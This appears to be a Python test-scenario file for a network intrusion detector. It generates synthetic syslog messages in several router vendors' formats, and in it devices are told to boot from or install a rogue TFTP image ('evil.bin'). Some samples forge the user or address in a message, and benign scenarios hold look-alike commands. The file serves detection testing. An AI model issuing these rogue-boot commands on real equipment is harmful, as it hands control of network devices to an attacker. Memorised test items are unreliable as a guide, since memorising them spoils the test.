"""BW07: what devices log of their commands, in every vendor's words, and whose words they are."""

from __future__ import annotations

import dataclasses

from bootwarden.scenarios.model import Expect, Notice, scenario
from bootwarden.scenarios.sites import ADMIN, ATTACKER, BOOT_SERVER, DEVICE, HQ, IMAGE, ROGUE
from bootwarden.traffic import syslog
from bootwarden.traffic.wire import Wire

RELAY, OTHER_RELAY = "10.0.9.25", "10.0.2.99"
EVIL = f"tftp://{ROGUE}/evil.bin"
LOGGED = "%PARSER-5-CFGLOG_LOGGEDCMD: User:admin  logged command:"

NAMES = dataclasses.replace(
    HQ, name="hq-names", zeek='redef Bootwarden::syslog_device_names += { ["edge6"] = 10.0.1.6 };\n'
)
"""The common site, and one device's address by its name."""


def command(device: str, file: str = "evil.bin") -> Notice:
    """The notice of one command."""
    return Notice("Boot_Command", device, ROGUE, file)


def relayed(wire: Wire, text: str, relay: str = RELAY) -> None:
    """A message that a relay passes on as it stands."""
    syslog.send(wire, relay, text)


@scenario(
    "BW07",
    "malicious",
    raises=[("BW07", 7, RELAY, syslog.COLLECTOR)] * 7,
    site=NAMES,
    with_site=Expect(
        (
            command("10.0.1.1"),
            command("10.0.1.2"),
            command("10.0.1.3"),
            command("10.0.1.4"),
            command("10.0.1.5"),
            command("10.0.1.6"),
            # The address of edge7 is not known.
            command(RELAY),
        ),
        evidence=tuple(
            {"device": device, "user": "admin", "server": ROGUE, "verdict": "suspicious"}
            for device in ("10.0.1.1", "10.0.1.2", "10.0.1.3", "10.0.1.4", "10.0.1.5", "10.0.1.6", RELAY)
        ),
    ),
)
def bw07_relayed_syslog(wire: Wire) -> None:
    """A relay passes on what devices log: whose it is say RFC 3164, RFC 5424, IOS' origin-id, and names."""
    line = f"{LOGGED}boot system {EVIL}"
    relayed(wire, f"<189>Jan  5 08:00:00 10.0.1.1 85: *Jan  5 08:00:00.100: {line}")
    relayed(wire, f"<189>1 2026-01-05T08:00:00.100Z 10.0.1.2 - - - - {line}")
    relayed(wire, f"<189>86: 10.0.1.3: *Jan  5 08:00:00.100: {line}")
    relayed(wire, f'<189>87: 10.0.1.4: [syslog@9 s_sn="5"]: .Jan  5 08:00:00.100 UTC: {line}')
    relayed(wire, f"<189>2026-01-05T08:00:00.100+01:00 relay.corp.example 88: 10.0.1.5: 1w2d: {line}")
    relayed(wire, f"<189>Jan  5 08:00:00 EDGE6 85: *Jan  5 08:00:00.100: {line}")
    relayed(wire, f"<189>Jan  5 08:00:00 edge7.corp.example 85: *Jan  5 08:00:00.100: {line}")


@scenario(
    "BW07",
    "malicious",
    raises=[("BW07", 7, host, syslog.COLLECTOR) for host in (DEVICE, OTHER_RELAY)],
    site=HQ,
    with_site=Expect((command(DEVICE), command(OTHER_RELAY)), evidence=({"device": DEVICE}, {"device": OTHER_RELAY})),
)
def bw07_other_names_on_syslog(wire: Wire) -> None:
    """The attacker has the device write another one's address on its messages; so does a host that is no relay."""
    syslog.ios(wire, DEVICE, f"{LOGGED}boot system {EVIL}", host="10.0.1.200")
    relayed(wire, f"<189>Jan  5 08:00:00 10.0.1.201 85: *Jan  5 08:00:00.100: {LOGGED}boot system {EVIL}", OTHER_RELAY)


@scenario(
    "BW07",
    "malicious",
    raises=[
        *(("BW07", 7, f"10.0.1.{last}", syslog.COLLECTOR) for last in (11, 12, 13, 15, 16, 19)),
        ("BW07", 8, "10.0.1.14", syslog.COLLECTOR),
        *(("BW07", 1542007300, f"10.0.1.{last}", syslog.COLLECTOR) for last in (17, 18)),
    ],
    site=HQ,
    with_site=Expect(
        tuple(command(f"10.0.1.{last}") for last in range(11, 20)),
        evidence=tuple(
            {"device": f"10.0.1.{last}", "user": "mallory"} | ({"actor": ATTACKER} if last not in (11, 12, 17) else {})
            for last in range(11, 20)
        ),
    ),
)
def bw07_vendors_log(wire: Wire) -> None:
    """Commands as IOS, Junos, EOS, NX-OS, VRP, Comware and ASA log them, with what may stand around them."""
    get, url = f"tftp {ROGUE} get evil.bin", EVIL
    order = f"%PARSER-5-CFGLOG_LOGGEDCMD: User:mallory  logged command:!exec: copy {url} flash:"
    syslog.send(wire, "10.0.1.11", f"<189>{order}")
    command = f"request system software add {url} no-validate"
    structured = f'[junos@2636.1.1.1.2.18 username="mallory" command="{command} "]'
    text = f"<189>1 2026-01-05T08:00:00.100Z mx1 mgd 4711 UI_CMDLINE_READ_LINE {structured}"
    syslog.send(wire, "10.0.1.12", text)
    accounted = f"mallory vty4 {ATTACKER} stop task_id=9 start_time=1767600000 service=shell priv-lvl=15"
    syslog.bsd(wire, "10.0.1.13", "leaf1", "Aaa", f"%ACCOUNTING-6-CMD: {accounted} cmd=copy {url} flash:")
    account = f"%AAA-6-AAA_ACCOUNTING_MESSAGE: update:{ATTACKER}@pts/0:mallory:"
    syslog.send(
        wire, "10.0.1.14", f"<190>: 2026 Jan  5 08:00:00 UTC: {account}configure terminal ; boot nxos {url} (SUCCESS)"
    )
    task = f'(Task=VTY0, Ip={ATTACKER}, VpnName=, User=mallory, AuthenticationMethod="Password", Command="{get}")'
    recorded = f"%%01SHELL/5/CMDRECORD(l)[12]:Recorded command information. {task}"
    syslog.send(wire, "10.0.1.15", f"<189>Jan  5 2026 08:00:00 core1 {recorded}")
    shell = f"%%10SHELL/6/SHELL_CMD: -Line=vty0-IPAddr={ATTACKER}-User=mallory; Command is {get}"
    syslog.send(wire, "10.0.1.16", f"<189>Jan  5 08:00:00 2026 core2 {shell}")
    done = f"User 'mallory' executed the 'boot system {url}' command."
    syslog.send(wire, "10.0.1.17", f"<189>Jan  5 2026 08:00:00: %ASA-5-111008: {done}")
    ran = f"User 'mallory', running 'CLI' from IP {ATTACKER}, executed 'boot system {url}'"
    syslog.send(wire, "10.0.1.18", f"<189>Jan  5 2026 08:00:00 fw2 : %ASA-5-111010: {ran}")
    # What stands in the command is not who gave it.
    forged = f"{get} Ip={ADMIN}, User=anna"
    task = f'(Task=VTY0, Ip={ATTACKER}, VpnName=, User=mallory, Command="{forged}")'
    syslog.send(wire, "10.0.1.19", f"<189>Jan  5 2026 08:00:00 core3 %%01SHELL/5/CMDRECORD(s)[13]:Recorded. {task}")


@scenario(
    "BW07",
    "benign",
    site=HQ,
    with_site=Expect(
        evidence=({"server": BOOT_SERVER, "file_name": "edge1-confg", "leaves": True, "verdict": "expected"},)
    ),
)
def bw07_vendors_log_looking(wire: Wire) -> None:
    """The same systems log that someone looks, removes, describes; and other messages that quote commands."""
    url = EVIL
    for number, text in enumerate(
        (
            f"no boot system {url}",
            "!exec: show running-config | include boot system tftp",
            f"description boot system {url}",
            f"banner motd ^Cboot system {url}^C",
            "boot system flash:c2900-universalk9-mz.SPA.157-3.M8.bin",
            "config-register 0x2102",
            f"archive path tftp://{ROGUE}/$h",
            f"copy running-config tftp://{BOOT_SERVER}/edge1-confg",
            "username admin password 7 tftp://10.0.6.66/x",
            "reload cancel",
            "ip tftp source-interface Loopback0",
        )
    ):
        syslog.ios(wire, DEVICE, LOGGED + text, sequence=100 + number)
    syslog.ios(wire, DEVICE, f"%SYS-6-TTY_EXPIRE_TIMER: boot system {url}", sequence=None)
    cli = "UI_CMDLINE_READ_LINE: User 'root', command 'show configuration system autoinstallation '"
    syslog.bsd(wire, "10.0.1.2", "mx1", "mgd[4711]", cli)
    shown = "%ACCOUNTING-6-CMD: admin vty4 10.0.9.10 stop service=shell cmd=dir flash: <cr>"
    syslog.rfc5424(wire, "10.0.1.3", "leaf1", "Aaa", shown)
    account = "%AAA-6-AAA_ACCOUNTING_MESSAGE: update:10.0.9.10@pts/0:admin:"
    syslog.send(
        wire, "10.0.1.4", f"<190>: 2026 Jan  5 08:00:00 UTC: {account}configure terminal ; no boot nxos (SUCCESS)"
    )
    task = '(Task=VTY0, Ip=10.0.9.10, VpnName=, User=anna, Command="display startup")'
    syslog.send(wire, "10.0.1.5", f"<189>Jan  5 2026 08:00:00 core1 %%01SHELL/5/CMDRECORD(l)[12]:Recorded. {task}")
    syslog.send(wire, "10.0.1.9", "<189>Jan  5 08:00:00 nas1 kernel: boot system tftp by reload")


@scenario(
    "BW07",
    "benign",
    raises=[("BW07", 7, RELAY, syslog.COLLECTOR)],
    raises_with_site=[],
    site=HQ,
    with_site=Expect(
        evidence=(
            {"device": DEVICE, "actor": ADMIN, "user": "anna", "server": BOOT_SERVER, "verdict": "expected"},
            {"device": "10.0.1.2", "evidence": "Bootwarden::RESTARTED", "verdict": "unknown"},
            {"device": "10.0.1.3", "evidence": "Bootwarden::RESTARTED", "verdict": "unknown"},
        )
    ),
)
def bw07_relayed_upgrade(wire: Wire) -> None:
    """The relay passes on that an admin copied the approved image, and that two devices restarted."""
    accounted = f"anna vty4 {ADMIN} stop service=shell cmd=copy tftp://{BOOT_SERVER}/{IMAGE} flash: <cr>"
    relayed(wire, f"<189>1 2026-01-05T08:00:00.100Z {DEVICE} Aaa - - - %ACCOUNTING-6-CMD: {accounted}")
    by = "Reload requested by anna on vty0 (10.0.9.10). Reload Reason: Reload Command."
    relayed(wire, f"<189>Jan  5 08:00:00 10.0.1.2 1203: *Jan  5 08:00:00.100: %SYS-5-RELOAD: {by}")
    # The relay of the relay added its own name, and the address that it saw.
    relayed(wire, "<189>2026-01-05T08:00:00.100+01:00 10.0.1.3 7: relay1: %SNMP-5-COLDSTART: SNMP agent on host edge3")


OTHERWISE = (
    "<189>Jan  5 08:00:00 [10.0.1.31] 85: *Jan  5 08:00:00.100: ",
    "<189>Message forwarded from 10.0.1.32: 85: *Jan  5 08:00:00.100: ",
    "<189>Jan  5 08:00:00 10.0.1.33: 85: *Jan  5 08:00:00.100: ",
    "<189>Jan  5 08:00:00 src@10.0.1.34/loghost 85: *Jan  5 08:00:00.100: ",
    "<189>10.0.1.35 85: *Jan  5 08:00:00.100: ",
    "<189>Jan  5 08:00:00 10.0.9.25 Jan  5 08:00:00 10.0.1.36 85: ",
    "<189>Thu Jan  5 08:00:00 2026 10.0.1.37 ",
    "<189>Original Address=10.0.1.38 85: ",
)


@scenario(
    "BW07",
    "malicious",
    raises=[("BW07", 7, RELAY, syslog.COLLECTOR)] * len(OTHERWISE),
    site=HQ,
    with_site=Expect(
        tuple(command(f"10.0.1.{last}") for last in range(31, 39)),
        evidence=tuple({"device": f"10.0.1.{last}", "server": ROGUE} for last in range(31, 39)),
    ),
)
def bw07_relayed_otherwise(wire: Wire) -> None:
    """Relays write a device's address in brackets, behind words, in chains, with a second header, without a date."""
    for header in OTHERWISE:
        relayed(wire, f"{header}{LOGGED}boot system {EVIL}")
